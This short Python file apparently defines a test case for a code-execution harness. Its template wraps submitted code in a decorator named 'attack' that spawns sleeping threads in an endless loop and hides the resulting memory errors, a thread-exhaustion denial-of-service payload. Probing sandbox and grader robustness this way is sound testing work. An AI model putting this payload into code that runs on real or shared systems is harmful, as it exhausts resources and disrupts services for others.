TRIES = "start threads without end"
MAY_EARN = "all"
CELL = """
import functools
import contextlib
import threading
import time


def attack(function):
    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        with contextlib.suppress(RuntimeError, MemoryError):
            while True:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        return function(*args, **kwargs)

    return wrapper


@attack
__DEFINITION__
"""
